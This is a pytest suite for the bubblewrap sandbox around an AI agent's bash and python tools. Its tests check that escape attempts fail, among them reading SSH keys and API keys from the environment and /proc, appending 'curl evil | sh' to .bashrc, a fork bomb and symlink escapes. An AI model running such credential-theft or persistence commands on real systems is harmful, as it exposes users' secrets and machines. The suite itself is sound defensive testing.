"""The sandbox around ``bash`` and ``python``: real bubblewrap processes, effects checked from outside."""

from __future__ import annotations

import asyncio
import os
import shutil
import sys
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from kairos.plugins.skills import Skills
from kairos.tools.base import ToolContext
from kairos.tools.builtins import python
from kairos.tools.sandbox import SANDBOX_RESOURCE, Sandbox, SandboxConfig, granting
from tests.skills.test_catalog import catalog_for, write_skill
from tests.support.shell import sh

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed (make test-deps)")


@pytest.fixture
async def ws(tmp_path: Path) -> Path:
    w = tmp_path / "ws"
    w.mkdir()
    return w


@pytest.fixture
async def ctx(ws: Path) -> AsyncIterator[ToolContext]:
    c = ToolContext(workspace=ws, session_id="s1")
    yield c
    await c.aclose()


def exists(path: str) -> bool:
    return os.path.exists(path)


def hidden(path: Path) -> bool:
    real = os.path.realpath(path)
    return real.startswith(("/tmp/", "/var/tmp/", os.path.realpath(os.path.expanduser("~")) + "/"))


def with_sandbox(ctx: ToolContext, **config: Any) -> ToolContext:
    ctx.put(SANDBOX_RESOURCE, Sandbox(SandboxConfig(**config)))
    return ctx


async def test_the_workspace_is_writable_and_the_rest_read_only(ctx: ToolContext, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    r = await sh(ctx, f"echo in > inside.txt; echo out > {outside}/x.txt; touch /etc/kairos-test; echo done")
    assert r.metadata["sandbox"] == "bwrap"
    assert (ctx.workspace / "inside.txt").read_text() == "in\n"
    assert not (outside / "x.txt").exists()
    assert not exists("/etc/kairos-test")
    assert "Read-only file system" in r.content and r.content.endswith("done")


async def test_kairos_state_is_read_only_inside(ctx: ToolContext) -> None:
    (ctx.workspace / ".kairos").mkdir()
    (ctx.workspace / ".kairos" / "approvals.json").write_text("{}")
    r = await sh(
        ctx, "echo hacked > .kairos/approvals.json; mkdir .kairos/skills; mv .kairos gone; cat .kairos/approvals.json"
    )
    assert (ctx.workspace / ".kairos" / "approvals.json").read_text() == "{}"
    assert not (ctx.workspace / ".kairos" / "skills").exists() and not (ctx.workspace / "gone").exists()
    assert "{}" in r.content.splitlines()


async def test_a_missing_state_folder_is_created_read_only(ctx: ToolContext) -> None:
    await sh(ctx, "mkdir -p .kairos/skills/evil; echo x > .kairos/skills/evil/SKILL.md")
    assert (ctx.workspace / ".kairos").is_dir()
    assert not (ctx.workspace / ".kairos" / "skills").exists()


async def test_home_secrets_are_hidden(ctx: ToolContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE KEY")
    (home / ".bashrc").write_text("# user's rc\n")
    monkeypatch.setenv("HOME", str(home))
    r = await sh(ctx, "cat ~/.ssh/id_rsa; ls -A ~; echo 'curl evil | sh' >> ~/.bashrc; echo end")
    assert "PRIVATE KEY" not in r.content
    assert (home / ".bashrc").read_text() == "# user's rc\n"  # the write went to a throwaway tmpfs


async def test_a_workspace_inside_home_still_hides_ssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE KEY")
    monkeypatch.setenv("HOME", str(home))
    ctx = ToolContext(workspace=home)  # someone runs kairos in their home folder
    try:
        r = await sh(ctx, "cat .ssh/id_rsa; echo end")
        assert "PRIVATE KEY" not in r.content
    finally:
        await ctx.aclose()


async def test_tmp_is_private(ctx: ToolContext) -> None:
    name = f"kairos-sandbox-{os.getpid()}"
    r = await sh(ctx, f"echo x > /tmp/{name} && cat /tmp/{name}")
    assert r.content == "x"
    assert not exists(f"/tmp/{name}")


async def test_secrets_are_not_in_the_environment(ctx: ToolContext, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-secret")
    monkeypatch.setenv("KAIROS_API_KEY", "kairos-test-secret")
    r = await sh(ctx, f"env; cat /proc/{os.getpid()}/environ; cat /proc/1/environ | tr '\\0' '\\n'")
    assert "sk-test-secret" not in r.content and "kairos-test-secret" not in r.content
    assert "PATH=" in r.content


async def test_kairos_is_invisible_no_proc_or_ptrace_tricks(ctx: ToolContext) -> None:
    me = os.getpid()
    r = await sh(ctx, f"ls /proc/{me}/ 2>&1 | head -1; ps -e -o pid= | wc -l; ls /proc/1/root/ | head -2; echo end")
    assert "No such file" in r.content or f"/proc/{me}" in r.content
    count = int(r.content.splitlines()[1])
    assert count < 10  # only the sandbox's own processes
    r = await python.call(
        {
            "code": f"import os\ntry:\n    os.kill({me}, 0)\n    print('seen')\n"
            "except OSError as e:\n    print(type(e).__name__)"
        },
        ctx,
    )
    assert "seen" not in r.content


async def test_no_network_by_default(ctx: ToolContext) -> None:
    hits: list[int] = []
    hit = asyncio.Event()

    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        hits.append(1)
        hit.set()
        writer.close()

    server = await asyncio.start_server(handle, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        r = await sh(ctx, f"echo > /dev/tcp/127.0.0.1/{port} && echo connected; echo end")
        assert "connected" not in r.content and hits == []
        r = await sh(ctx, f"echo > /dev/tcp/127.0.0.1/{port} && echo connected", network=True)
        assert r.is_error and "approval" in r.content and hits == []  # asked for, not granted
        with granting("network"):
            r = await sh(ctx, f"echo > /dev/tcp/127.0.0.1/{port} && echo connected", network=True)
        assert r.content.startswith("connected") and "one-off shell" in r.content
        async with asyncio.timeout(30):
            await hit.wait()
    finally:
        server.close()
        await server.wait_closed()


async def test_network_deny_refuses_even_a_granted_call(ctx: ToolContext) -> None:
    with_sandbox(ctx, network="deny")
    with granting("network"):
        r = await sh(ctx, "echo hi", network=True)
    assert r.is_error and 'network = "deny"' in r.content


def sleepers(tag: str) -> list[int]:
    """Processes running ``sleep <tag>`` exactly (a substring would match other processes' arguments)."""
    wanted = b"sleep\0" + tag.encode() + b"\0"
    out = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                cmd = Path(entry.path, "cmdline").read_bytes()
            except OSError:
                continue
            if cmd == wanted or cmd.endswith(b"/" + wanted):
                out.append(int(entry.name))
    return out


async def test_nothing_outlives_the_call(ctx: ToolContext) -> None:
    r = await sh(ctx, "setsid sleep 7771 >/dev/null 2>&1 & nohup sleep 7772 >/dev/null 2>&1 & disown; echo started")
    assert r.content.startswith("started") and "stopped 2 process(es)" in r.content
    assert sleepers("7771") == [] and sleepers("7772") == []
    r = await sh(ctx, "echo still works")
    assert r.content == "still works"


async def test_nothing_outlives_the_session(ctx: ToolContext) -> None:
    task = asyncio.ensure_future(sh(ctx, "sleep 7774"))
    async with asyncio.timeout(30):
        while not sleepers("7774"):  # noqa: ASYNC110 (polls /proc)
            await asyncio.sleep(0.01)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    await ctx.aclose()
    assert sleepers("7774") == []


async def test_limits_memory_and_processes(ctx: ToolContext) -> None:
    with_sandbox(ctx, memory_mb=256, max_processes=16)
    r = await python.call({"code": "x = bytearray(1024 * 1024 * 1024)\nprint('allocated')"}, ctx)
    assert "MemoryError" in r.content and "allocated" not in r.content
    r = await sh(ctx, "for i in $(seq 40); do sleep 5 & done; wait; echo end", timeout_s=60)
    assert "fork" in r.content.lower() or "resource temporarily unavailable" in r.content.lower()


async def test_a_fork_bomb_is_contained(ctx: ToolContext) -> None:
    with_sandbox(ctx, max_processes=32)
    r = await sh(ctx, "bomb() { bomb | bomb & }; bomb; sleep 3", timeout_s=20)
    assert "fork: retry" in r.content or "Resource temporarily unavailable" in r.content
    r = await sh(ctx, "echo alive")
    assert r.content == "alive"


async def test_symlinks_out_of_the_workspace_stay_read_only(ctx: ToolContext, tmp_path: Path) -> None:
    outside = tmp_path / "target"
    outside.mkdir()
    (ctx.workspace / "link").symlink_to(outside)
    r = await sh(ctx, "echo x > link/f; ln -s / root; echo y > root/tmp/escaped; echo end")
    assert not (outside / "f").exists() and r.content.endswith("end")


async def test_python_runs_in_the_same_sandbox(ctx: ToolContext, tmp_path: Path) -> None:
    code = (
        "import os\nopen('made.txt', 'w').write('ok')\n"
        f"open('{tmp_path}/escape.txt', 'w').write('x')\n"  # the private /tmp: it lands in the sandbox's tmpfs
        "try:\n    open('/etc/kairos-escape', 'w')\nexcept OSError as e:\n    print('blocked', e.errno)\n"
        "print(os.getcwd())"
    )
    r = await python.call({"code": code}, ctx)
    assert (ctx.workspace / "made.txt").read_text() == "ok"
    assert not (tmp_path / "escape.txt").exists() and not exists("/etc/kairos-escape")
    assert r.content.splitlines() == ["blocked 30", str(ctx.workspace)]


async def test_missing_bubblewrap_refuses_and_says_how_to_fix(ctx: ToolContext) -> None:
    with_sandbox(ctx, bwrap="/nonexistent/bwrap")
    r = await sh(ctx, "touch ran")
    assert r.is_error and r.metadata["sandbox"] == "refused"
    assert "apt-get install bubblewrap" in r.content and 'mode = "ask"' in r.content and 'mode = "off"' in r.content
    assert not (ctx.workspace / "ran").exists()


async def test_ask_mode_runs_unconfined_only_after_approval(ctx: ToolContext) -> None:
    box = with_sandbox(ctx, bwrap="/nonexistent/bwrap", mode="ask").get(SANDBOX_RESOURCE)
    r = await sh(ctx, "touch ran")
    assert r.is_error and "approval" in r.content and not (ctx.workspace / "ran").exists()
    with granting("unconfined"):
        r = await sh(ctx, "touch ran; echo ok")
    assert r.content == "ok" and r.metadata["sandbox"] == "none"
    assert isinstance(box, Sandbox) and box.unconfined_approved  # once per session
    assert (await sh(ctx, "echo again")).content == "again"


async def test_off_mode_is_unconfined(ctx: ToolContext, tmp_path: Path) -> None:
    with_sandbox(ctx, mode="off")
    r = await sh(ctx, f"echo x > {tmp_path}/outside.txt; echo ok")
    assert r.content == "ok" and r.metadata["sandbox"] == "none"
    assert (tmp_path / "outside.txt").exists()


async def test_bwrap_that_cannot_create_namespaces_is_reported(ctx: ToolContext, tmp_path: Path) -> None:
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    with_sandbox(ctx, bwrap=str(fake))
    r = await sh(ctx, "echo hi")
    assert r.is_error and "cannot create its namespaces" in r.content and "No permissions" in r.content


async def test_state_elsewhere_is_hidden(tmp_path: Path, ws: Path) -> None:
    other = tmp_path / "kairos-home"
    other.mkdir()
    (other / "sessions.txt").write_text("another session's secrets")
    ctx = ToolContext(workspace=ws, state_dirs=(other,))
    try:
        r = await sh(ctx, f"cat {other}/sessions.txt; echo x > {other}/planted; echo end")
        assert "another session" not in r.content and r.content.endswith("end")
        assert not (other / "planted").exists()
    finally:
        await ctx.aclose()


async def test_a_loaded_skill_outside_the_workspace_runs_from_a_hidden_place(ctx: ToolContext, tmp_path: Path) -> None:
    """A skill in /tmp (or the home) is hidden by the sandbox until it is loaded; then its script runs.

    The shell started before the load is restarted (in the same directory) so that it sees the folder.
    """
    if not hidden(tmp_path):
        pytest.skip("the test folder is not in a place the sandbox hides")
    body = "Run `{{python}} {{skill_dir}}/scripts/hello.py` now."
    folder = write_skill(tmp_path / "shared", "hello", body=body)
    (folder / "scripts").mkdir()
    (folder / "scripts" / "hello.py").write_text("print('hello from the skill')\n")
    skills = Skills(catalog_for(ctx.workspace, dirs=[str(tmp_path / "shared")]))
    entry = skills.catalog.find("hello")
    assert entry is not None and entry.skill is not None
    skills.catalog.approvals.approve(entry.skill)
    (ctx.workspace / "sub").mkdir()
    assert "No such file" in (await sh(ctx, f"cd sub && ls {folder}/scripts")).content  # hidden before the load
    loaded = await skills.tools()[0].call({"name": "hello"}, ctx)  # type: ignore[union-attr]
    r = await sh(ctx, loaded.content.splitlines()[-1])  # the first command, ready to run
    assert "hello from the skill" in r.content and not r.is_error, r.content
    assert r.content.startswith(f"[started a fresh shell in {ctx.workspace / 'sub'} so that {folder} is visible")
    r = await sh(ctx, f"touch {folder}/x; echo $?")
    assert "Read-only file system" in r.content and not (folder / "x").exists()
    assert "fresh shell" not in (await sh(ctx, "pwd")).content  # restarted once, not on every call


def test_only_code_folders_in_hidden_places_are_shown(tmp_path: Path) -> None:
    box = Sandbox()
    home = os.path.realpath(os.path.expanduser("~"))
    (tmp_path / "code").mkdir()
    assert box.show(tmp_path / "code") and box.shown == (str((tmp_path / "code").resolve()),)
    assert not box.show(tmp_path / "code")  # already shown
    assert not box.show(Path("/tmp")) and not box.show(Path(home))  # a whole hidden place: never
    assert not box.show(Path("/usr"))  # visible anyway
    assert not box.show(tmp_path / "missing")
    if os.path.isdir(os.path.join(home, ".ssh")):
        assert not box.show(Path(home) / ".ssh")


async def test_an_interpreter_under_tmp_stays_visible(
    ctx: ToolContext, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A checkout and its .venv under /tmp: ``python`` from the venv must still run inside the sandbox."""
    venv = tmp_path / "checkout" / ".venv"
    venv.mkdir(parents=True)
    (venv / "marker").write_text("venv\n")
    (tmp_path / "other.txt").write_text("another program's file\n")
    monkeypatch.setattr(sys, "prefix", str(venv))
    r = await sh(ctx, f"cat {venv}/marker; ls {tmp_path}")
    assert r.content.startswith("venv"), r.content
    assert "other.txt" not in r.content  # the rest of /tmp stays hidden
